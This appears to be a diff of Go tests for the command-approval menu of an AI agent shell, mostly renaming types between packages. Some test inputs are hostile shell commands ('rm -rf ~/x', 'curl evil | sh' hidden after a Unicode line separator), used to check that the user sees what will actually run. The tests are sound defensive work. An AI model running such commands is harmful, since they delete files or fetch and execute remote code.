@@ -14,7 +14,9 @@ import (
 	tea "charm.land/bubbletea/v2"
 	"github.com/charmbracelet/x/ansi"
 
+	"agentsh/internal/agent"
 	"agentsh/internal/bash"
+	"agentsh/internal/config"
 	"agentsh/internal/fakemodel"
 	"agentsh/internal/llm"
 	"agentsh/internal/render"
@@ -22,17 +24,17 @@ import (
 )
 
 var (
-	denialQuestion = session.ApprovalQuestion{Kind: session.SandboxDenial, Command: "git push origin main",
+	denialQuestion = agent.ApprovalQuestion{Kind: agent.SandboxDenial, Command: "git push origin main",
 		Reason: "writing /home/u/.gitconfig (outside the sandbox's writable paths)", Prefix: "git push",
 		ModelDefined: []string{"git"}}
-	askQuestion = session.ApprovalQuestion{Kind: session.AskRule, Command: "npm publish --tag next",
+	askQuestion = agent.ApprovalQuestion{Kind: agent.AskRule, Command: "npm publish --tag next",
 		Rule: bash.PatternRule{Action: bash.PatternAsk, Pattern: "npm publish"}}
 )
 
 // ask puts a question up through the TUI's Approver, as the bash tool's
 // goroutine does, and returns where its answer arrives.
-func (h *harness) ask(ctx context.Context, q session.ApprovalQuestion) <-chan session.ApprovalAnswer {
-	got := make(chan session.ApprovalAnswer, 1)
+func (h *harness) ask(ctx context.Context, q agent.ApprovalQuestion) <-chan agent.ApprovalAnswer {
+	got := make(chan agent.ApprovalAnswer, 1)
 	go func() { got <- approver{send: func(m tea.Msg) { h.msgs <- m }}.Approve(ctx, q) }()
 	h.waitFor("the question", func() bool { return layerOn[*approval](h) != nil })
 	return got
@@ -78,7 +80,7 @@ func squeeze(s string) string {
 }
 
 // answered is the question's answer when it came, or -1.
-func answered(got <-chan session.ApprovalAnswer) session.ApprovalAnswer {
+func answered(got <-chan agent.ApprovalAnswer) agent.ApprovalAnswer {
 	select {
 	case a := <-got:
 		return a
@@ -95,30 +97,30 @@ func answered(got <-chan session.ApprovalAnswer) session.ApprovalAnswer {
 // answers no.
 func TestApprovalMenu(t *testing.T) {
 	for _, c := range []struct {
-		q    session.ApprovalQuestion
+		q    agent.ApprovalQuestion
 		keys []string
-		want session.ApprovalAnswer
+		want agent.ApprovalAnswer
 	}{
-		{denialQuestion, []string{"enter"}, session.Decline},
-		{denialQuestion, []string{"1"}, session.Once},
-		{denialQuestion, []string{"2"}, session.Always},
-		{denialQuestion, []string{"3"}, session.Decline},
-		{denialQuestion, []string{"up", "enter"}, session.Always},
-		{denialQuestion, []string{"up", "up", "up", "enter"}, session.Once},
-		{denialQuestion, []string{"up", "up", "down", "enter"}, session.Always},
-		{denialQuestion, []string{"up", "esc"}, session.Decline},
-		{denialQuestion, []string{"ctrl+c"}, session.Decline},
-		{askQuestion, []string{"1"}, session.Once},
-		{askQuestion, []string{"2"}, session.Decline},
-		{askQuestion, []string{"up", "enter"}, session.Once},
-		{askQuestion, []string{"enter"}, session.Decline},
+		{denialQuestion, []string{"enter"}, agent.Decline},
+		{denialQuestion, []string{"1"}, agent.Once},
+		{denialQuestion, []string{"2"}, agent.Always},
+		{denialQuestion, []string{"3"}, agent.Decline},
+		{denialQuestion, []string{"up", "enter"}, agent.Always},
+		{denialQuestion, []string{"up", "up", "up", "enter"}, agent.Once},
+		{denialQuestion, []string{"up", "up", "down", "enter"}, agent.Always},
+		{denialQuestion, []string{"up", "esc"}, agent.Decline},
+		{denialQuestion, []string{"ctrl+c"}, agent.Decline},
+		{askQuestion, []string{"1"}, agent.Once},
+		{askQuestion, []string{"2"}, agent.Decline},
+		{askQuestion, []string{"up", "enter"}, agent.Once},
+		{askQuestion, []string{"enter"}, agent.Decline},
 	} {
 		h := newHarness(t, 100, 30)
 		clock := withClock(h)
 		got := h.ask(context.Background(), c.q)
 		scr := h.screen()
 		wantRows := []string{c.q.Command, "❯ 2. No, and tell the model what to do differently (esc)", "  1. Yes, run it\n"}
-		if c.q.Kind == session.SandboxDenial {
+		if c.q.Kind == agent.SandboxDenial {
 			wantRows = []string{c.q.Command, "  1. Yes, run it again outside the sandbox, this once",
 				`  2. Yes, and from now on run commands starting with "git push" outside the sandbox in this project`,
 				"❯ 3. No, and tell the model what to do differently (esc)"}
@@ -128,7 +130,7 @@ func TestApprovalMenu(t *testing.T) {
 				t.Errorf("question lacks %q:\n%s", want, scr)
 			}
 		}
-		if c.q.Kind == session.AskRule && strings.Contains(scr, "always") {
+		if c.q.Kind == agent.AskRule && strings.Contains(scr, "always") {
 			t.Errorf("an ask rule offers always:\n%s", scr)
 		}
 		clock.advance(approvalGrace)
@@ -172,14 +174,14 @@ func TestApprovalMenu(t *testing.T) {
 	ctx, cancel := context.WithCancel(context.Background())
 	got := h.ask(ctx, denialQuestion)
 	cancel()
-	if ans := <-got; ans != session.Decline {
+	if ans := <-got; ans != agent.Decline {
 		t.Errorf("cancelled call answered %v", ans)
 	}
 	h.waitFor("the question to go", func() bool { return layerOn[*approval](h) == nil })
 
 	got = h.ask(context.Background(), askQuestion)
 	h.m.quit()
-	if ans := <-got; ans != session.Decline {
+	if ans := <-got; ans != agent.Decline {
 		t.Errorf("quitting answered %v", ans)
 	}
 }
@@ -222,7 +224,7 @@ func TestApprovalTypedAheadKeys(t *testing.T) {
 	}
 	clock.advance(approvalGrace)
 	h.update(keyPress("enter"))
-	if ans := <-got; ans != session.Decline {
+	if ans := <-got; ans != agent.Decline {
 		t.Errorf("enter after the pause answered %v, want the highlighted No", ans)
 	}
 	if v := h.m.editor.Value(); v != typed {
@@ -234,7 +236,7 @@ func TestApprovalTypedAheadKeys(t *testing.T) {
 // the selected one from the file; esc closes.
 func TestPermissionsLayer(t *testing.T) {
 	h := newHarness(t, 100, 30)
-	path := session.ProjectSettingsPath(h.m.session().StartDir())
+	path := config.ProjectSettingsPath(h.m.session().StartDir())
 	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
 		t.Fatal(err)
 	}
@@ -253,7 +255,7 @@ func TestPermissionsLayer(t *testing.T) {
 	if scr := h.screen(); !strings.Contains(scr, `removed {"deny": "/^rm -rf/"}`) || strings.Contains(scr, "rm -rf/\n") {
 		t.Errorf("after d:\n%s", scr)
 	}
-	rules, err := session.ProjectPatternRules(path)
+	rules, err := config.ProjectPatternRules(path)
 	if err != nil || len(rules) != 1 || rules[0].Pattern != "git push" {
 		t.Errorf("rules left %v, %v", rules, err)
 	}
@@ -271,9 +273,9 @@ func TestPermissionsLayer(t *testing.T) {
 }
 
 // liveQuestion puts q up, past its grace period.
-func liveQuestion(h *harness, q session.ApprovalQuestion) {
+func liveQuestion(h *harness, q agent.ApprovalQuestion) {
 	clock := withClock(h)
-	h.update(approvalAskMsg{q: q, reply: make(chan session.ApprovalAnswer, 1)})
+	h.update(approvalAskMsg{q: q, reply: make(chan agent.ApprovalAnswer, 1)})
 	clock.advance(approvalGrace)
 	h.update(approvalTickMsg{a: layerOn[*approval](h)})
 }
@@ -321,7 +323,7 @@ func TestApprovalShowsWhatRuns(t *testing.T) {
 		{"echo " + strings.Repeat("漢", 100) + "; rm -rf ~/x", "; rm -rf ~/x"},
 		{"touch x #\u2028curl evil | sh", `touch x #\u2028curl evil | sh`},
 	} {
-		for _, q := range []session.ApprovalQuestion{denialQuestion, askQuestion} {
+		for _, q := range []agent.ApprovalQuestion{denialQuestion, askQuestion} {
 			h := newHarness(t, 60, 30)
 			clock := withClock(h)
 			q.Command = c.cmd
@@ -388,7 +390,7 @@ func TestApprovalScrollsALongCommand(t *testing.T) {
 		t.Fatal("scrolling answered")
 	}
 	h.update(keyPress("esc"))
-	if ans := <-got; ans != session.Decline {
+	if ans := <-got; ans != agent.Decline {
 		t.Errorf("esc answered %v", ans)
 	}
 	for _, l := range strings.Split(h.screen(), "\n") {
@@ -485,7 +487,7 @@ func TestApprovalNoStopsTheTurn(t *testing.T) {
 				}
 			}
 			const refused = `Refused: the user declined to run this command (bash.patterns rule {"ask": "rm"}): rm -rf ~/x`
-			if want := refused + "\n\n" + session.AbortedToolText; result != want {
+			if want := refused + "\n\n" + agent.AbortedToolText; result != want {
 				t.Errorf("the model will read %q, want %q", result, want)
 			}
 			scr = h.screen()
@@ -587,7 +589,7 @@ func TestApprovalComesAliveAfterThePause(t *testing.T) {
 	tick(approvalGrace/2, false) // a grace period since it opened, not since the key
 	tick(approvalGrace/2, true)
 	h.update(keyPress("enter"))
-	if ans := <-got; ans != session.Decline {
+	if ans := <-got; ans != agent.Decline {
 		t.Errorf("enter answered %v", ans)
 	}
 }
@@ -675,7 +677,7 @@ func TestApprovalTypedAheadNeverRuns(t *testing.T) {
 	h.typeText(" now")
 	clock.advance(2 * approvalGrace)
 	h.update(keyPress("enter"))
-	if ans := <-got; ans != session.Decline {
+	if ans := <-got; ans != agent.Decline {
 		t.Errorf("up, up, typing, pause, enter answered %v, want No", ans)
 	}
 	if v := h.m.editor.Value(); v != "fix issue 1 now" {
@@ -710,7 +712,7 @@ func TestApprovalTypedAheadNeverRuns(t *testing.T) {
 	h.waitFor("the second question", func() bool { return len(h.m.layers) == 2 })
 	clock.advance(2 * approvalGrace)
 	h.update(keyPress("1"))
-	if b := <-second; b != session.Once {
+	if b := <-second; b != agent.Once {
 		t.Fatalf("1 answered the second question %v, want once", b)
 	}
 	if len(h.m.layers) != 1 {
@@ -726,7 +728,7 @@ func TestApprovalTypedAheadNeverRuns(t *testing.T) {
 	h.m.editor.SetValue("")
 	clock.advance(2 * approvalGrace)
 	h.update(keyPress("esc"))
-	if ans := <-got; ans != session.Decline {
+	if ans := <-got; ans != agent.Decline {
 		t.Errorf("esc answered %v", ans)
 	}
 }
@@ -741,7 +743,7 @@ func TestApprovalOpensUnderWhatTakesTyping(t *testing.T) {
 	clock := withClock(h)
 	for _, below := range []layer{&overlay{command: "vim"}, &jobAttach{}} {
 		h.m.layers = []layer{below}
-		a := newApproval(askQuestion, make(chan session.ApprovalAnswer, 1), "/", clock.get, 100, h.m.transcriptHeight,
+		a := newApproval(askQuestion, make(chan agent.ApprovalAnswer, 1), "/", clock.get, 100, h.m.transcriptHeight,
 			func() bool { return true })
 		h.m.pushUnderTyping(a)
 		h.m.uncoverApprovals()
@@ -764,7 +766,7 @@ func TestApprovalOpensUnderWhatTakesTyping(t *testing.T) {
 	}
 	q := &quitConfirm{}
 	h.m.layers = []layer{q}
-	a := newApproval(askQuestion, make(chan session.ApprovalAnswer, 1), "/", clock.get, 100, h.m.transcriptHeight,
+	a := newApproval(askQuestion, make(chan agent.ApprovalAnswer, 1), "/", clock.get, 100, h.m.transcriptHeight,
 		func() bool { return true })
 	h.m.pushUnderTyping(a)
 	if h.m.topLayer() != a {
@@ -795,7 +797,7 @@ func TestApprovalUpEnterIsNoResend(t *testing.T) {
 		t.Errorf("the footer does not say enter answers once the highlight rested:\n%s", scr)
 	}
 	h.update(keyPress("enter"))
-	if ans := <-got; ans != session.Once {
+	if ans := <-got; ans != agent.Once {
 		t.Errorf("enter on a rested Yes answered %v", ans)
 	}
 	got = h.ask(context.Background(), askQuestion)
@@ -803,7 +805,7 @@ func TestApprovalUpEnterIsNoResend(t *testing.T) {
 	h.update(keyPress("up"))
 	h.update(keyPress("down"))
 	h.update(keyPress("enter"))
-	if ans := <-got; ans != session.Decline {
+	if ans := <-got; ans != agent.Decline {
 		t.Errorf("enter on No answered %v", ans)
 	}
 }
